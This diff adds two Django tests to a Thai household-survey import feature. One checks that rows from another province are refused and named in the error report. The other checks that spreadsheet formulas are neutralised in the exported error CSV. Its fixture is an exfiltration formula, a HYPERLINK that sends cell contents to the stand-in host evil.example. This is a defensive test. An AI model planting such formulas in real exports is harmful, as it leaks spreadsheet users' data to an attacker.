@@ -340,3 +340,55 @@ def test_coverage_by_village_subdistrict_district_and_the_province_map(
     assert chart["kind"] == "map" and "40" in chart["keys"]
     assert chart["series"][0]["values"][chart["keys"].index("40")] == 100.0
     assert 'id="insight-map-svg"' in page.text and "insight/dashboard.js" in page.text
+
+
+def test_a_row_of_another_province_is_refused_with_its_row_named(
+    client, net, django_capture_on_commit_callbacks
+):
+    """A Khon Kaen supervisor's file with a Tak village (63…) on one row loads nothing; the
+    report names that row in Thai; a central officer may load the same file."""
+    tak_row = [
+        "H7",
+        "2567",
+        "63010101",
+        "30",
+        "หญิง",
+        "",
+        "1",
+        "40000",
+        "0",
+        "0",
+        "0",
+        "0",
+        "0",
+        "0",
+    ]
+    data = csv_bytes(ROWS + [tak_row])
+    with django_capture_on_commit_callbacks(execute=False):
+        imp = do_import(net["sup"], data)
+    assert imp.status == "failed" and not Household.objects.exists()
+    client.force_login(net["sup"])
+    response = client.get(reverse("network:household_import_errors", args=[imp.pk]))
+    report = b"".join(response.streaming_content).decode("utf-8-sig")
+    lines = report.splitlines()
+    assert len(lines) == 2 and lines[1].startswith("6,")  # row 6 of the file: the Tak village
+    assert "63010101" in lines[1] and "จังหวัดอื่น" in lines[1]
+    with django_capture_on_commit_callbacks(execute=False):
+        imp = do_import(net["central"], data)
+    assert imp.status == "done", imp.message
+    assert Household.objects.filter(province_code="63").count() == 1
+
+
+def test_the_error_report_neutralises_formulas(client, net, django_capture_on_commit_callbacks):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    row = [evil, "2567", "40010103", "30", "หญิง", "", "1", "-5", "0", "0", "0", "0", "0", "0"]
+    with django_capture_on_commit_callbacks(execute=False):
+        imp = do_import(net["sup"], csv_bytes([row, ["H2", "2567", "@SUM(1)", *row[3:]]]))
+    client.force_login(net["sup"])
+    response = client.get(reverse("network:household_import_errors", args=[imp.pk]))
+    cells = [
+        c for r in csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
+        for c in r
+    ]  # fmt: skip
+    assert "'" + evil in cells and "'-5" in cells and "'@SUM(1)" in cells
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
